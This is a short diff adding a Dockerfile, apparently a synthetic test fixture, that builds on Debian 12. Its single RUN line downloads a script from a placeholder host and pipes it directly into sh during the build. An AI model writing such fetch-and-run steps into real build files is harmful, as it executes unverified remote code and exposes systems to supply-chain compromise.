@@ -1,0 +1,3 @@
+# lines: 3
+FROM debian:12
+RUN sh -c "$(curl -fsSL https://x.example)"
